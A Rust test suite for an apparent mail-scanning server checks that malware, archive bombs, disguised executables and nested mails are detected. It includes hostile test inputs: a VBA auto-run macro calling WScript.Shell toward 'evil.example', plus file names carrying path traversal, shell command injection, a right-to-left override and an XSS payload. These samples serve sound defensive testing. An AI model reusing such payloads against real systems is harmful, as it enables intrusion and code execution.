//! Mails through the whole pipeline: what is dangerous is named with its place, what is hostile ends in a sentence.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use base64::{Engine, engine::general_purpose::STANDARD};
use domain::{
    evidence::Check,
    policy::{FileKind, Policy},
    verdict::{Outcome, Verdict},
};
use postern_server::{
    commands::scan::policy_file::default_policy,
    mail::{Fetched, Limits, MailSummary, ObjectSet, Scanner, ScannerSettings, default_rules},
};
use proptest::prelude::*;
use std::{
    io::{Cursor, Write},
    sync::{Arc, LazyLock},
    time::{Duration, Instant},
};
use zip::{AesMode, ZipWriter, write::SimpleFileOptions};

static SCANNER: LazyLock<Scanner> = LazyLock::new(|| scanner("", Limits::default()));

fn scanner(objects: &str, limits: Limits) -> Scanner {
    Scanner::new(ScannerSettings {
        rules: default_rules(),
        objects: Arc::new(ObjectSet::read(objects).unwrap()),
        clamd: None,
        limits,
    })
    .unwrap()
}

fn judge_with(scanner: &Scanner, mail: &[u8], policy: &Policy) -> (Verdict, MailSummary) {
    let judged = scanner.examine(
        Fetched {
            mailbox: "",
            bytes: mail,
        },
        Some(policy),
    );
    let summary = judged.summary();
    (judged.verdict, summary)
}

fn judge(mail: &[u8]) -> (Verdict, MailSummary) {
    judge_with(&SCANNER, mail, &default_policy())
}

/// `rule @ place` of every reason.
fn reasons(verdict: &Verdict) -> Vec<String> {
    verdict
        .because
        .iter()
        .map(|reason| format!("{} @ {}", reason.evidence.rule, reason.evidence.place.label()))
        .collect()
}

fn corpus(name: &str) -> Vec<u8> {
    std::fs::read(format!("{}/tests/corpus/{name}.eml", env!("CARGO_MANIFEST_DIR"))).unwrap()
}

const CORPUS: [&str; 8] = [
    "plain",
    "newsletter",
    "japanese",
    "russian",
    "forwarded",
    "hostile",
    "broken",
    "nomail",
];

/// The EICAR test file, put together here so that no file of the tree holds it.
fn eicar() -> String {
    [
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}$",
        "EICAR",
        "-STANDARD-ANTIVIRUS-",
        "TEST-FILE!$H+H*",
    ]
    .concat()
}

fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in members {
        writer.start_file(*name, SimpleFileOptions::default()).unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn attachment(name: &str, content: &[u8]) -> Vec<u8> {
    let encoded: Vec<String> = STANDARD
        .encode(content)
        .as_bytes()
        .chunks(76)
        .map(|line| String::from_utf8_lossy(line).into_owned())
        .collect();
    format!(
        "From: a@b.example\r\nSubject: s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: text/plain\r\n\r\nHello.\r\n--q\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--q--\r\n",
        encoded.join("\r\n")
    )
    .into_bytes()
}

#[test]
fn eicar_is_found_plain_encoded_and_in_a_zip_in_a_zip() {
    let file = eicar();
    let (verdict, _) = judge(format!("From: a@b.example\r\n\r\n{file}\r\n").as_bytes());
    assert_eq!(reasons(&verdict), ["yara:EICAR_Test_File @ text body"]);
    assert_eq!(verdict.outcome, Outcome::Condemned);
    let (verdict, _) = judge(&attachment("eicar.txt", file.as_bytes()));
    assert_eq!(reasons(&verdict), ["yara:EICAR_Test_File @ eicar.txt"]);
    let nested = zip(&[("inner.zip", &zip(&[("a/eicar.txt", file.as_bytes())]))]);
    let (verdict, summary) = judge(&attachment("outer.zip", &nested));
    assert_eq!(
        reasons(&verdict),
        ["yara:EICAR_Test_File @ outer.zip › inner.zip › a/eicar.txt"]
    );
    assert_eq!(summary.attachments[0].kind, "ZIP archive");
    assert!(verdict.because[0].evidence.because.contains("EICAR test file"));
}

#[test]
fn eicar_is_found_in_gzip_tar_and_in_mails_within_mails() {
    let file = eicar();
    let mut tar = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_size(file.len() as u64);
    header.set_cksum();
    tar.append_data(&mut header, "deep/eicar.bin", file.as_bytes()).unwrap();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gzip.write_all(&tar.into_inner().unwrap()).unwrap();
    let inner = attachment("files.tgz", &gzip.finish().unwrap());
    let place = "files.tgz › files.tar › deep/eicar.bin";
    // A tar does not compress: the file is seen in it and on its own.
    assert_eq!(
        reasons(&judge(&inner).0),
        [
            "yara:EICAR_Test_File @ files.tgz › files.tar".to_string(),
            format!("yara:EICAR_Test_File @ {place}")
        ]
    );
    // As it should be sent, encoded as it should not be, and saved to a file.
    let mut plain = b"From: x@y.example\r\nContent-Type: message/rfc822; name=fwd.eml\r\n\r\n".to_vec();
    plain.extend(&inner);
    let mut encoded =
        b"From: x@y.example\r\nContent-Type: message/rfc822; name=fwd.eml\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            .to_vec();
    encoded.extend(STANDARD.encode(&inner).bytes());
    for mail in [plain, encoded, attachment("fwd.eml", &inner)] {
        assert_eq!(
            reasons(&judge(&mail).0).last(),
            Some(&format!("yara:EICAR_Test_File @ fwd.eml › {place}"))
        );
    }
}

#[test]
fn ordinary_mails_are_clean_and_their_text_is_decoded() {
    for (name, subject, from) in [
        ("plain", "Minutes of Monday", "Anna Berg <anna@north.example>"),
        ("newsletter", "Neue Röstungen ☕", "Café Luna <news@luna.example>"),
        ("japanese", "ご注文の確認", "山田 <yamada@osaka.example>"),
        ("russian", "Счёт", "Иван <ivan@volga.example>"),
        ("forwarded", "Fwd: Minutes", "anna@north.example"),
    ] {
        let (verdict, summary) = judge(&corpus(name));
        assert_eq!((verdict.outcome, reasons(&verdict)), (Outcome::Clean, vec![]), "{name}");
        assert_eq!((summary.subject.as_str(), summary.from.as_str()), (subject, from));
    }
    let (_, summary) = judge(&corpus("japanese"));
    assert_eq!(summary.attachments[0].name, "請求書.pdf");
    assert_eq!(
        (summary.attachments[0].kind.as_str(), summary.sender.as_str()),
        ("PDF", "yamada@osaka.example")
    );
    let (_, summary) = judge(&corpus("plain"));
    assert_eq!(
        summary.recipients,
        ["team@north.example", "lee@north.example", "office@north.example"]
    );
    assert_eq!(summary.message_id, "minutes-41@north.example");
    assert_eq!(summary.sent_at.unwrap().rfc3339(), "2026-10-05T07:30:00.000Z");
    assert!(summary.headers.contains(&("MIME-Version".into(), "1.0".into())));
}

#[test]
fn objects_are_found_in_links_files_senders_and_inner_mails() {
    use sha2::{Digest, Sha256};
    let csv = hex::encode(Sha256::digest(b"1,2,3"));
    let russian = "Добрый день. Счёт во вложении.\r\n";
    let body = hex::encode(sha1::Sha1::digest(
        russian.chars().flat_map(windows_1251).collect::<Vec<u8>>(),
    ));
    let list = format!("sha256,{csv},Known list\nsha1,{body}\nurl,files.north.example/minutes\nlee@north.example\n");
    let scanner = scanner(&list, Limits::default());
    let found = |name: &str| reasons(&judge_with(&scanner, &corpus(name), &default_policy()).0);
    assert_eq!(found("plain"), ["object:url:files.north.example/minutes @ text body"]);
    assert_eq!(
        found("forwarded"),
        [
            "object:sender:lee@north.example @ minutes.eml › header From".to_string(),
            format!("object:sha256:{csv} @ minutes.eml › numbers.csv"),
        ]
    );
    // The hash is that of the bytes that a reader would save, not of their text in UTF-8.
    assert_eq!(found("russian"), [format!("object:sha1:{body} @ text body")]);
}

fn windows_1251(character: char) -> Vec<u8> {
    match character {
        'А'..='я' => vec![(character as u32 - 'А' as u32 + 0xc0) as u8],
        'ё' => vec![0xb8],
        other => vec![other as u8],
    }
}

#[test]
fn files_are_told_by_content_and_by_name_also_inside_archives() {
    let mut program = b"MZ\x90\0".to_vec();
    program.resize(512, 0);
    assert_eq!(
        reasons(&judge(&attachment("photo.jpg", &program)).0),
        ["type:executable @ photo.jpg"]
    );
    assert_eq!(
        reasons(&judge(&attachment("invoice.pdf.exe", b"text")).0),
        ["extension:exe @ invoice.pdf.exe"]
    );
    assert_eq!(
        reasons(&judge(&attachment("a.zip", &zip(&[("x/run.scr", b"text")]))).0),
        ["extension:scr @ a.zip › x/run.scr"]
    );
    let macros = zip(&[("[Content_Types].xml", b"<x/>"), ("word/vbaProject.bin", b"none")]);
    assert_eq!(
        reasons(&judge(&attachment("letter.docx", &macros)).0),
        ["type:macro_document @ letter.docx"]
    );
    let mut policy = default_policy();
    policy.filters.file_blocking.inside_archives = false;
    policy.filters.file_blocking.names = vec!["*.SECRET".into()];
    policy.filters.file_blocking.kinds.push(FileKind::Pdf);
    let verdict = |mail: &[u8]| reasons(&judge_with(&SCANNER, mail, &policy).0);
    assert!(verdict(&attachment("a.zip", &zip(&[("run.scr", b"text")]))).is_empty());
    assert_eq!(
        verdict(&attachment("plan.secret", b"%PDF-1.4")),
        ["type:pdf @ plan.secret", "name:*.SECRET @ plan.secret"]
    );
}

/// A text as the macro of a document, in the form that [MS-OVBA] section 2.4.1 allows for text that is not compressed much.
fn macro_document(text: &[u8]) -> Vec<u8> {
    let mut module = b"before the text\x01".to_vec();
    for chunk in text.chunks(800) {
        let tokens: Vec<u8> = chunk.chunks(8).flat_map(|eight| [&[0][..], eight].concat()).collect();
        module.extend((0xb000 | (tokens.len() as u16 + 2 - 3)).to_le_bytes());
        module.extend(tokens);
    }
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    file.create_storage("/VBA").unwrap();
    file.create_stream("/VBA/_VBA_PROJECT")
        .unwrap()
        .write_all(b"cache")
        .unwrap();
    file.create_stream("/VBA/ThisDocument")
        .unwrap()
        .write_all(&module)
        .unwrap();
    file.into_inner().into_inner()
}

#[test]
fn macros_are_unpacked_and_read() {
    let text = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n CreateObject(\"WScript.Shell\").Run \"https://evil.example/x\"\r\nEnd Sub\r\n";
    let document = macro_document(text.as_bytes());
    assert_eq!(
        reasons(&judge(&attachment("letter.doc", &document)).0),
        [
            "type:macro_document @ letter.doc",
            "yara:Office_Macro_Auto_Run @ letter.doc › VBA/ThisDocument"
        ]
    );
    let package = zip(&[("[Content_Types].xml", b"<x/>"), ("word/vbaProject.bin", &document)]);
    let listed = scanner("domain,evil.example", Limits::default());
    let found = reasons(&judge_with(&listed, &attachment("letter.docm", &package), &default_policy()).0);
    for rule in ["yara:Office_Macro_Auto_Run", "object:domain:evil.example"] {
        let reason = format!("{rule} @ letter.docm › word/vbaProject.bin › VBA/ThisDocument");
        assert!(found.contains(&reason), "{found:?}");
    }
}

#[test]
fn what_is_switched_off_is_not_looked_for() {
    let mail = attachment("eicar.exe", eicar().as_bytes());
    let mut policy = default_policy();
    policy.filters.malware_scanning.enabled = false;
    assert_eq!(
        reasons(&judge_with(&SCANNER, &mail, &policy).0),
        ["extension:exe @ eicar.exe"]
    );
    policy.filters.file_blocking.setting.enabled = false;
    assert_eq!(judge_with(&SCANNER, &mail, &policy).0.outcome, Outcome::Clean);
    let judged = SCANNER.examine(
        Fetched {
            mailbox: "",
            bytes: &mail,
        },
        None,
    );
    assert_eq!((judged.verdict.outcome, judged.verdict.policy), (Outcome::Clean, None));
}

#[test]
fn an_encrypted_archive_is_protected_and_its_names_are_still_seen() {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().with_aes_encryption(AesMode::Aes256, "pass");
    writer.start_file("run.exe", options).unwrap();
    writer.write_all(b"secret").unwrap();
    let (verdict, _) = judge(&attachment("locked.zip", &writer.finish().unwrap().into_inner()));
    assert_eq!(
        reasons(&verdict),
        ["extension:exe @ locked.zip › run.exe", "protected:archive @ locked.zip"]
    );
    assert!(
        verdict.because[1]
            .evidence
            .because
            .starts_with("Protected compressed file")
    );
}

#[test]
fn bug_p3_a_bomb_ends_at_its_limit_and_what_stands_before_is_still_seen() {
    let mut bomb = eicar().into_bytes();
    bomb.resize(60 * 1024 * 1024, 0);
    let (verdict, _) = judge(&attachment("bomb.zip", &zip(&[("zeros", &bomb)])));
    assert_eq!(
        reasons(&verdict),
        [
            "yara:EICAR_Test_File @ bomb.zip › zeros",
            "limit:ratio @ bomb.zip › zeros"
        ]
    );
    assert_eq!(
        verdict.because[1].evidence.because,
        "Over restriction (compression ratio)"
    );
    let limits = Limits {
        members: 3,
        unpacked_bytes: 30,
        layers: 2,
        ..Limits::default()
    };
    let small = scanner("", limits);
    let rules = |mail: Vec<u8>| reasons(&judge_with(&small, &mail, &default_policy()).0);
    assert_eq!(
        rules(attachment(
            "many.zip",
            &zip(&[("1", b""), ("2", b""), ("3", b""), ("4", b"")])
        )),
        ["limit:members @ many.zip"]
    );
    assert_eq!(
        rules(attachment("long.zip", &zip(&[("1", &[b'x'; 31])]))),
        ["limit:unpacked_size @ long.zip › 1"]
    );
    let deep = (0..4).fold(b"x".to_vec(), |inner, _| zip(&[("z.zip", &inner)]));
    let deeper = scanner(
        "",
        Limits {
            layers: 2,
            ..Limits::default()
        },
    );
    let (verdict, _) = judge_with(&deeper, &attachment("deep.zip", &deep), &default_policy());
    assert_eq!(reasons(&verdict), ["limit:depth @ deep.zip › z.zip › z.zip"]);
    assert_eq!(verdict.outcome, Outcome::Unscannable);
    assert_eq!(
        verdict.because[0].evidence.because,
        "Over restriction (number of layer of compression)"
    );
}

#[test]
fn bug_p3_mails_within_mails_end_at_a_limit_however_deep_they_are() {
    for (layer, times) in [
        ("Content-Type: message/rfc822\r\n\r\n", 100_000),
        ("Content-Type: message/(;)\"RFC822\"\r\n\r\n", 100_000),
        ("Content-Type: multipart/digest; boundary=a\r\n\r\n--a\r\n\r\n", 100_000),
        ("Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n", 100_000),
    ] {
        let mut mail = b"From: a@b.example\r\n".to_vec();
        mail.extend(layer.repeat(times).bytes());
        let (verdict, _) = judge(&mail);
        assert_ne!(verdict.outcome, Outcome::Condemned);
        // The same behind an encoding that the parser would undo by itself.
        let mut encoded =
            b"From: a@b.example\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_vec();
        encoded.extend(STANDARD.encode(&mail).bytes());
        assert_ne!(judge(&encoded).0.outcome, Outcome::Condemned);
    }
    let mut mail = b"From: a@b.example\r\n".to_vec();
    mail.extend("Content-Type: message/rfc822\r\n\r\n".repeat(20).bytes());
    let (verdict, _) = judge(&mail);
    assert!(
        reasons(&verdict).iter().any(|reason| reason.starts_with("limit:depth")),
        "{:?}",
        reasons(&verdict)
    );
}

#[test]
fn ten_thousand_parts_and_fifty_megabytes_are_read_to_their_end() {
    let mut mail = b"From: a@b.example\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n".to_vec();
    for _ in 0..10_000 {
        mail.extend(b"--q\r\nContent-Type: text/plain\r\n\r\nx\r\n");
    }
    mail.extend(
        format!(
            "--q\r\nContent-Disposition: attachment; filename=last\r\n\r\n{}\r\n--q--\r\n",
            eicar()
        )
        .bytes(),
    );
    let started = Instant::now();
    assert_eq!(reasons(&judge(&mail).0), ["yara:EICAR_Test_File @ last"]);
    // Not a benchmark: something that grows with the square of the parts would take minutes.
    assert!(started.elapsed() < Duration::from_secs(20));
    let few = scanner(
        "",
        Limits {
            parts: 100,
            ..Limits::default()
        },
    );
    assert!(reasons(&judge_with(&few, &mail, &default_policy()).0).contains(&"limit:parts @ whole mail".to_string()));
    let mut large = vec![b'.'; 50 * 1024 * 1024];
    large.extend(eicar().bytes());
    assert_eq!(
        reasons(&judge(&attachment("large.bin", &large)).0),
        ["yara:EICAR_Test_File @ large.bin"]
    );
    let short = scanner(
        "",
        Limits {
            mail_bytes: 1_000,
            ..Limits::default()
        },
    );
    assert_eq!(
        reasons(&judge_with(&short, &mail, &default_policy()).0),
        ["yara:EICAR_Test_File @ whole mail", "limit:body_size @ whole mail"]
    );
}

#[test]
fn bug_p3_a_content_type_of_endless_parameters_is_refused_quickly() {
    let mut mail = b"From: a@b.example\r\nContent-Type: text/plain".to_vec();
    for number in 0..400_000 {
        mail.extend(format!(";\r\n a{number}*0=x").bytes());
    }
    mail.extend(b"\r\n\r\nHello.\r\n");
    let started = Instant::now();
    assert_eq!(reasons(&judge(&mail).0), ["limit:parts @ whole mail"]);
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[test]
fn bug_p1_q9_names_of_files_and_members_are_only_ever_looked_at() {
    let names = [
        "../../../../tmp/postern-escaped",
        "/etc/cron.d/postern",
        "`touch postern-escaped`",
        "$(touch postern-escaped).exe",
        "con.exe",
        "a\0b.exe",
        "\u{202e}fdp.exe",
        "<img src=x onerror=alert(1)>.exe",
        &"n".repeat(4_096),
    ];
    let inside: Vec<(&str, &[u8])> = names.iter().map(|name| (*name, &b"#!/bin/sh\n"[..])).collect();
    let here = std::env::current_dir().unwrap();
    let listing = || -> Vec<_> {
        std::fs::read_dir(&here)
            .unwrap()
            .map(|entry| entry.unwrap().file_name())
            .collect()
    };
    let before = listing();
    let (verdict, _) = judge(&attachment("names.zip", &zip(&inside)));
    assert_eq!(verdict.outcome, Outcome::Condemned);
    for reason in &verdict.because {
        let evidence = &reason.evidence;
        let text = format!("{}{}{}", evidence.rule, evidence.because, evidence.place.label());
        assert!(!text.chars().any(postern_server::mail::text::is_deceptive), "{text:?}");
    }
    for name in names {
        judge(&attachment(&name.replace('\0', ""), b"x"));
    }
    assert_eq!(listing(), before);
    assert!(!std::path::Path::new("/tmp/postern-escaped").exists());
}

#[test]
fn bug_p4_bare_line_ends_do_not_hide_a_part() {
    for end in ["\n", "\r\n"] {
        let mail = format!(
            "From: a@b.example{end}Content-Type: multipart/mixed; boundary=q{end}{end}--q{end}Content-Disposition: attachment; filename=e{end}{end}.{end}{}{end}.\r\r\n--q--{end}",
            eicar()
        );
        assert_eq!(
            reasons(&judge(mail.as_bytes()).0),
            ["yara:EICAR_Test_File @ e"],
            "{end:?}"
        );
    }
}

#[test]
fn what_is_no_mail_is_unscannable_or_clean_but_never_unseen() {
    let (verdict, _) = judge(eicar().as_bytes());
    assert!(
        reasons(&verdict)
            .iter()
            .any(|reason| reason.starts_with("yara:EICAR_Test_File")),
        "{:?}",
        reasons(&verdict)
    );
    let (verdict, summary) = judge(b"");
    assert!(
        verdict
            .because
            .iter()
            .all(|reason| reason.evidence.check == Check::Unscannable)
    );
    assert_eq!((summary.size, summary.subject.as_str()), (0, ""));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]
    #[test]
    fn no_change_of_bytes_makes_the_pipeline_fall(
        name in prop::sample::select(CORPUS.to_vec()),
        changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0u8..4), 1..24),
    ) {
        let mut mail = corpus(name);
        for (at, byte, way) in changes {
            let at = at.index(mail.len().max(1)).min(mail.len().saturating_sub(1));
            match way {
                _ if mail.is_empty() => mail.push(byte),
                0 => mail[at] = byte,
                1 => mail.insert(at, byte),
                2 => { mail.remove(at); }
                _ => { let piece = mail[at..(at + 40).min(mail.len())].to_vec(); mail.splice(at..at, piece); }
            }
        }
        let (verdict, summary) = judge(&mail);
        prop_assert_eq!(summary.size, mail.len() as u64);
        prop_assert!(!verdict.because.iter().any(|reason| reason.evidence.rule == "limit:broken" && reason.evidence.because.contains("taken apart")));
        for reason in verdict.because {
            let label = reason.evidence.place.label();
            prop_assert!(!label.chars().any(postern_server::mail::text::is_deceptive));
        }
    }

    #[test]
    fn no_change_of_bytes_in_an_archive_makes_the_pipeline_fall(changes in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..16)) {
        let mut archive = zip(&[("a.txt", &[b'a'; 300]), ("b/inner.zip", &zip(&[("c.exe", b"MZ")]))]);
        for (at, byte) in changes {
            let at = at.index(archive.len());
            archive[at] = byte;
        }
        let (verdict, _) = judge(&attachment("a.zip", &archive));
        prop_assert!(verdict.because.len() <= Limits::default().evidence);
    }
}
